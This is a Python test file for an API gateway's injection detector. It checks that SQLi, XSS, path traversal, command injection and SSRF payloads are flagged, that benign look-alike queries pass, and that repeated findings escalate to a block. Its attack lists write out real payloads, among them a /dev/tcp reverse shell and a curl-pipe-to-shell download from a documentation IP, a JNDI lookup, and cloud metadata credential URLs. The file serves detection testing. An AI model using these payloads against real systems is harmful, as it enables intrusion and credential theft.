"""Injection probing: payloads of each class caught, benign look-alikes left alone, parameter
shapes learned (never from flagged requests, and within bounds), evidence escalating to actions."""

from __future__ import annotations

import random

import pytest

from detectors import Fusion, SubjectContext
from detectors.injection import EXCERPT_CHARS, InjectionDetector
from detectors.injection_decode import decode
from detectors.injection_engine import LiteralSet
from detectors.state import SubjectState
from pipeline.events import GatewayEvent
from tests.unit.conftest import T0_MS, make_event

T0_S = T0_MS / 1000


def request(
    query: dict[str, str] | None = None,
    path: str = "/v1/search",
    route: str | None = None,
    status: int = 200,
    at_s: float = 0.0,
) -> GatewayEvent:
    return make_event(
        ts_ms=round(T0_MS + at_s * 1000),
        path=path,
        route=route or path,
        query=query or {},
        status=status,
    )


# --- each class, in the forms attackers send ------------------------------------------------------
ATTACKS = [
    ("sqli", {"id": "1 UNION SELECT username, password FROM users--"}),
    ("sqli", {"user": "admin'--"}),
    ("sqli", {"q": "x' OR '1'='1"}),
    ("sqli", {"id": "1 AND SLEEP(5)"}),
    ("sqli", {"id": "1; DROP TABLE users"}),
    ("sqli", {"id": "1' WAITFOR DELAY '0:0:5'--"}),
    ("sqli", {"id": "1/**/UNION/**/SELECT/**/NULL,NULL"}),
    ("sqli", {"id": "1%2527%2520OR%25201%253D1--"}),  # encoded twice: Kong decodes once
    ("sqli", {"id": "-1 or 1=1"}),
    ("sqli", {"sort": "(SELECT CASE WHEN (1=1) THEN name ELSE price END)"}),
    ("sqli", {"user[$ne]": "x"}),
    ("sqli", {"id": "1 AND extractvalue(1,concat(0x7e,version()))"}),
    ("xss", {"q": "<script>alert(document.cookie)</script>"}),
    ("xss", {"q": '"><img src=x onerror=alert(1)>'}),
    ("xss", {"next": "javascript:alert(1)"}),
    ("xss", {"q": "<svg/onload=alert(1)>"}),
    ("xss", {"q": "&lt;script&gt;alert(1)&lt;/script&gt;"}),
    ("xss", {"q": "%3Cscript%3Ealert(1)%3C%2Fscript%3E"}),
    ("xss", {"name": "'-alert(1)-'"}),
    ("xss", {"q": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"}),  # full-width, folded by NFKC
    ("lfi", {"file": "../../../../etc/passwd"}),
    ("lfi", {"file": "..%2f..%2f..%2fetc%2fpasswd"}),
    ("lfi", {"file": "....//....//....//etc/passwd"}),
    ("lfi", {"file": "..\\..\\..\\windows\\win.ini"}),
    ("lfi", {"file": "..%c0%af..%c0%afetc/shadow"}),  # over-long UTF-8 slash
    ("lfi", {"page": "php://filter/convert.base64-encode/resource=index.php"}),
    ("lfi", {"doc": "file:///etc/shadow"}),
    ("rce", {"host": "127.0.0.1;cat /etc/passwd"}),
    ("rce", {"host": "127.0.0.1|id"}),
    ("rce", {"name": "$(whoami)"}),
    ("rce", {"name": "`uname -a`"}),
    ("rce", {"ip": "1.1.1.1 && curl http://203.0.113.5/s.sh | sh"}),
    ("rce", {"x": "${jndi:ldap://203.0.113.5/a}"}),
    ("rce", {"host": "x;cat${IFS}/etc/passwd"}),
    ("rce", {"cmd": "w'h'o'am'i"}),
    ("rce", {"cmd": "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}),
    ("rce", {"cmd": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="}),
    ("rce", {"cmd": "& FOR /F %i IN ('whoami') DO echo %i"}),
    ("ssrf", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
    ("ssrf", {"url": "http://metadata.google.internal/computeMetadata/v1/"}),
    ("ssrf", {"url": "http://2852039166/latest/"}),  # 169.254.169.254 as one number
    ("ssrf", {"url": "http://[::ffff:a9fe:a9fe]/latest/"}),
    ("ssrf", {"url": "http://[0:0:0:0:0:0:169.254.169.254]/"}),  # IPv4-compatible IPv6
    ("ssrf", {"url": "gopher://127.0.0.1:6379/_FLUSHALL"}),
    ("ssrf", {"webhook": "http://127.0.0.1:8080/admin"}),
]


@pytest.mark.parametrize(
    ("kind", "query"), ATTACKS, ids=[f"{k}-{i}" for i, (k, _) in enumerate(ATTACKS)]
)
def test_each_class_is_caught_as_a_clear_payload(kind: str, query: dict[str, str]) -> None:
    finding = InjectionDetector().inspect(request(query))
    assert finding is not None
    assert finding.kind == kind
    assert finding.score >= 0.5  # one clear payload is worth a tag on its own
    assert finding.detector == "injection"


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/static/..%2f..%2f..%2fetc/passwd", "lfi"),
        ("/files/../../../../etc/shadow", "lfi"),
        ("/search/<script>alert(1)</script>", "xss"),
        ("/users/1%20UNION%20SELECT%20password%20FROM%20users--", "sqli"),
        ("/proxy/http://169.254.169.254/latest/meta-data/", "ssrf"),
    ],
)
def test_payloads_in_the_url_path_are_caught(path: str, kind: str) -> None:
    finding = InjectionDetector().inspect(request(path=path, route="/x"))
    assert finding is not None and finding.kind == kind
    assert "the path" in finding.reason


def test_a_payload_in_a_parameter_name_is_caught() -> None:
    finding = InjectionDetector().inspect(request({"<svg onload=alert(1)>": ""}))
    assert finding is not None and finding.kind == "xss"
    assert "parameter name" in finding.reason


# --- benign look-alikes ---------------------------------------------------------------------------
BENIGN = [
    ("q", "O'Brien"),
    ("q", "union station"),
    ("q", "select a plan"),
    ("q", "1=1 tutorial"),
    ("q", "drop-down"),
    ("q", "drop leaf table"),
    ("q", "select * from book"),
    ("q", "javascript: the good parts"),
    ("q", "women's running shoes"),
    ("q", "rock 'n' roll poster"),
    ("q", "salt & pepper grinder"),
    ("q", "AT&T phone case"),
    ("q", "Johnson & Johnson"),
    ("q", "black or white"),
    ("q", "where's waldo"),
    ("q", "<3 mug"),
    ("q", "exec chair -- black"),
    ("q", "1'' foam pad"),
    ("q", '55" 4k tv'),
    ("q", "c++ primer"),
    ("q", "c# in depth"),
    ("q", "50% off shoes"),
    ("q", "sleep (8 hours)"),
    ("q", "how to delete from a list in python"),
    ("q", "time warner"),
    ("q", "find x for y"),
    ("q", "lynx cat"),
    ("q", "ping pong table"),
    ("q", "nc state hoodie"),
    ("q", "powershell tutorial"),
    ("q", "if a == b"),
    ("q", 'Size: 8"x11"'),
    ("q", "a;b;c"),
    ("q", "foo|bar"),
    ("q", "日本茶 急須"),
    ("q", "größe 42 schuhe"),
    ("q", "x < y > z"),
    ("q", "{name}"),
    ("q", "${name}"),
    ("q", "{{username}}"),
    ("q", "$5 each"),
    ("q", "~/Documents"),
    ("redirect_uri", "https://app.example.com/callback?state=xyz&code_challenge=abc"),
    ("redirect_uri", "http://localhost:3000/callback"),  # RFC 8252 loopback redirect
    ("redirect_uri", "http://127.0.0.1:8400/oauth"),
    ("next", "/account/settings?tab=billing"),
    ("url", "https://en.wikipedia.org/wiki/SQL_injection"),
    ("url", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"),
    ("filter", '{"status":"open","price":{"$gte":10,"$lt":20}}'),
    ("filter", "status eq 'open' and price gt 10"),
    ("filter", "name eq 'O''Brien'"),
    ("filter", "created>=2024-01-01 is:open"),
    ("fields", "id,name,email"),
    ("fields", "{id,name}"),
    ("sort", "-created_at"),
    ("sort", "price desc, name asc"),
    ("path", "images/2024/05/cat.png"),
    ("path", "web.config"),
    ("state", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl"),
    ("email", "[email]"),
    ("text", "Hello,\r\nI would like to order 3 items.\r\nThanks!"),
    ("text", "Go to store.\nAt the store, shop."),
]


@pytest.mark.parametrize(("name", "value"), BENIGN)
def test_benign_look_alikes_are_not_flagged_even_on_a_cold_start(name: str, value: str) -> None:
    assert InjectionDetector().inspect(request({name: value})) is None


# --- a payload must be executable in the syntax it claims ----------------------------------------
@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("ping 127.0.0.1", False),  # a program's name and arguments, nothing a shell reads
        ("find . 1 -exec curl google.com \\;", False),
        ("ping 127.0.0.1 > /tmp/out", True),  # redirection
        ("ping`` 127.0.0.1", True),  # quotes only a shell drops, to slip past a filter
        ("ping$() 127.0.0.1", True),
        ("p'i'ng 127.0.0.1", True),
        ("as you near your last year, jokes aren't enough", False),  # an apostrophe in prose
        ("find / -name *.conf", True),  # a glob
        ("ls -l /etc", True),  # not an English word: options are enough
    ],
)
def test_an_english_command_word_at_the_start_needs_shell_syntax(value: str, flagged: bool) -> None:
    finding = InjectionDetector().inspect(request({"x": value}))
    assert (finding is not None) == flagged
    if flagged:
        assert finding is not None and finding.kind == "rce"


def test_a_metadata_address_without_a_scheme_counts_only_where_urls_are_taken() -> None:
    detector = InjectionDetector(learn_after=20)
    bare = "169.254.169.254/latest/user-data"
    assert detector.inspect(request({"q": bare}, path="/v1/fetch")) is None  # not a URL
    assert detector.inspect(request({"ssrf": "[0:0:0:0:0:ffff:169.254.169.254]"})) is None
    learn(detector, "url", [f"https://cdn.example.com/img/{i}.png" for i in range(25)], "/v1/fetch")
    finding = detector.inspect(request({"url": bare}, path="/v1/fetch"))
    assert finding is not None and finding.kind == "ssrf"
    with_scheme = InjectionDetector().inspect(request({"q": "http://" + bare}))
    assert with_scheme is not None and with_scheme.kind == "ssrf"


# --- learned parameter shapes ---------------------------------------------------------------------
def learn(detector: InjectionDetector, name: str, values: list[str], route: str = "/v1/orders"):
    for i, value in enumerate(values):
        assert detector.inspect(request({name: value}, path=route, at_s=i)) is None


def test_a_quote_counts_in_a_parameter_that_is_always_a_number() -> None:
    detector = InjectionDetector(learn_after=20)
    probe = request({"id": "42'"}, path="/v1/orders")
    assert detector.inspect(probe) is None  # cold: a stray quote is nothing
    learn(detector, "id", [str(n) for n in range(100, 140)])
    assert detector.shapes.shape("/v1/orders", "id") == "numeric"
    finding = detector.inspect(probe)
    assert finding is not None and finding.kind == "sqli"
    assert "(normally numeric)" in finding.reason


def test_the_same_payload_weighs_more_in_a_numeric_parameter_than_in_free_text() -> None:
    detector = InjectionDetector(learn_after=20)
    learn(detector, "id", [str(n) for n in range(40)])
    learn(detector, "q", ["red dress", "shoes", "garden chair", "usb-c cable"] * 10)
    assert detector.shapes.shape("/v1/orders", "q") == "text"
    payload = "1 ORDER BY 3--"  # a medium finding: column-count probing
    cold = InjectionDetector().inspect(request({"id": payload}, path="/v1/orders"))
    strict = detector.inspect(request({"id": payload}, path="/v1/orders"))
    loose = detector.inspect(request({"q": payload}, path="/v1/orders"))
    assert cold is not None and strict is not None
    assert strict.score > cold.score
    assert loose is None  # in a search box it is a phrase like any other


def test_medium_findings_fade_in_a_free_text_parameter() -> None:
    detector = InjectionDetector(learn_after=20)
    value = "C:\\Program Files\\App\\app.exe crashed"
    assert detector.inspect(request({"text": value}, path="/v1/feedback")) is not None  # cold
    learn(detector, "text", ["it broke", "great app!", "slow, please fix", "5 stars"] * 6,
          route="/v1/feedback")  # fmt: skip
    assert detector.inspect(request({"text": value}, path="/v1/feedback")) is None


def test_flagged_requests_are_never_learned_from() -> None:
    detector = InjectionDetector(learn_after=5)
    for i in range(50):  # an attacker tries to teach the detector that SQL is normal in ?id
        assert detector.inspect(request({"id": f"{i} UNION SELECT null--"}, path="/v1/orders"))
    assert detector.shapes.shape("/v1/orders", "id") is None
    assert len(detector.shapes) == 0


def test_frozen_learning_keeps_the_shapes_as_they_are() -> None:
    detector = InjectionDetector(learn_after=5)
    detector.learning = False
    learn(detector, "id", [str(n) for n in range(50)])
    assert len(detector.shapes) == 0


def test_errors_and_unknown_routes_teach_nothing() -> None:
    detector = InjectionDetector(learn_after=5)
    for i in range(20):
        detector.inspect(request({"id": str(i)}, path="/v1/orders", status=404))
    assert len(detector.shapes) == 0


def test_shape_memory_is_bounded_under_a_parameter_flood() -> None:
    detector = InjectionDetector(max_params=200, max_params_per_route=8)
    rng = random.Random(5)
    for i in range(5_000):
        route = f"/r{rng.randrange(100)}"
        detector.inspect(request({f"p{rng.randrange(10**6)}": str(i)}, path=route))
    assert len(detector.shapes) <= 200
    assert all(len(params) <= 8 for params in detector.shapes._routes.values())


# --- evidence -> actions --------------------------------------------------------------------------
def replay(detector: InjectionDetector, findings: int, over_s: float) -> SubjectState:
    state = SubjectState()
    for i in range(findings):
        at = T0_S + i * over_s / max(1, findings)
        finding = detector.inspect(request({"id": f"{i} UNION SELECT password FROM users--"}))
        assert finding is not None
        state.note(detector.name, finding.score, at, finding.kind, finding.reason)
    return state


@pytest.mark.parametrize(
    ("findings", "over_s", "action"),
    [(1, 0.0, "tag"), (3, 60.0, "challenge"), (20, 30.0, "block")],
)
def test_evidence_escalates_from_tag_to_block(findings: int, over_s: float, action: str) -> None:
    detector = InjectionDetector()
    state = replay(detector, findings, over_s)
    signal = detector.score(state, SubjectContext("ip:198.51.100.7", "ip", now=T0_S + over_s))
    assert signal is not None and signal.kind == "sqli"
    assert Fusion().action_for(signal.score) == action
    assert signal.reason.startswith(f"{findings} injection finding")


def test_evidence_fades() -> None:
    detector = InjectionDetector()
    state = replay(detector, 20, 30.0)
    later = detector.score(state, SubjectContext("ip:x", "ip", now=T0_S + 3 * 3600))
    assert later is None


def test_a_subject_with_no_findings_has_no_signal() -> None:
    assert InjectionDetector().score(SubjectState(), SubjectContext("ip:x", "ip", T0_S)) is None


# --- reasons and inputs ---------------------------------------------------------------------------
def test_the_reason_names_the_parameter_and_quotes_at_most_a_little_of_the_payload() -> None:
    payload = "1 UNION SELECT " + ",".join(f"col{i}" for i in range(300)) + " FROM users--"
    finding = InjectionDetector().inspect(request({"id": payload}))
    assert finding is not None
    assert finding.reason.startswith("SQLi in ?id: UNION SELECT at ")
    quoted = finding.reason.split(" at ", 1)[1]
    assert len(quoted) <= EXCERPT_CHARS + 3  # the excerpt, its quotes, an ellipsis
    assert "col299" not in finding.reason


def test_a_long_parameter_name_is_not_echoed_whole() -> None:
    name = "<script>" + "a" * 500
    finding = InjectionDetector().inspect(request({name: "1"}))
    assert finding is not None and "a" * 100 not in finding.reason


@pytest.mark.parametrize(
    "kwargs",
    [
        {"min_score": 0},
        {"min_score": 1.5},
        {"tag_at": 2.0, "challenge_at": 1.0},
        {"block_at": 0.1},
        {"learn_after": 0},
        {"max_params": 0},
    ],
)
def test_bad_parameters_are_refused(kwargs: dict[str, float]) -> None:
    with pytest.raises(ValueError):
        InjectionDetector(**kwargs)


@pytest.mark.parametrize(
    "value",
    ["", "%", "%%%", "%zz%u12", "\x00\x01\x02", "&#xFFFFFFFF;&#0;", "a" * 5000, "\ud800", "%c0"],
)
def test_odd_values_never_crash(value: str) -> None:
    detector = InjectionDetector()
    detector.inspect(request({"q": value, value[:30] or "x": "1"}, path="/" + value[:50]))


def test_decoding_is_bounded_and_repeated() -> None:
    assert decode("%252527").text == "'"  # three layers
    assert decode("%25252527").text == "%27"  # a fourth is left as is
    assert len(decode("%41" * 10_000).text) <= 2048


def test_literal_lookup_agrees_with_a_plain_search() -> None:
    rng = random.Random(3)
    alphabet = "abcdefghijklmnopqrstuvwxyz '\"<>();|&$/.-=_"
    literals = ["select", "union", "'", "<", "sel", "ect", "on", "sh", "bash", "/etc/", "$(", "x"]
    texts = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 60))) for _ in range(300)]
    for engine in ("python", "auto"):
        found = LiteralSet(literals, engine=engine)
        for text in texts:
            assert found.find(text) == {lit for lit in literals if lit in text}, (engine, text)


# --- through the worker's detection step ------------------------------------------------------
def test_a_scanner_run_is_blocked_and_a_shopper_is_left_alone() -> None:
    from pipeline.worker.processor import Processor, StateStore

    processor = Processor(detectors=[InjectionDetector()], fusion=Fusion(), mode="enforce")
    store = StateStore(max_subjects=100)
    probes = [
        "1'", "1 AND 1=1", "1 AND SLEEP(5)", "1 UNION SELECT NULL--", "1) OR (1=1",
        "../../etc/passwd", "<script>alert(1)</script>", ";id", "1 ORDER BY 10--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
    ]  # fmt: skip
    events = [
        make_event(
            ts_ms=T0_MS + i * 300,
            client_ip="198.51.100.7",
            path="/v1/orders",
            route="/v1/orders",
            query={"id": probe},
        )
        for i, probe in enumerate(probes)
    ] + [
        make_event(ts_ms=T0_MS + i * 900, client_ip="192.0.2.55", query={"q": term})
        for i, term in enumerate(("O'Brien", "union station", "select * from book", "1=1 tutorial"))
    ]
    decisions = {d.subject: d for d in processor.process(events, store, wall_ms=T0_MS)}
    assert decisions["ip:198.51.100.7"].action == "block"
    assert decisions["ip:198.51.100.7"].detector == "injection"
    assert "ip:192.0.2.55" not in decisions
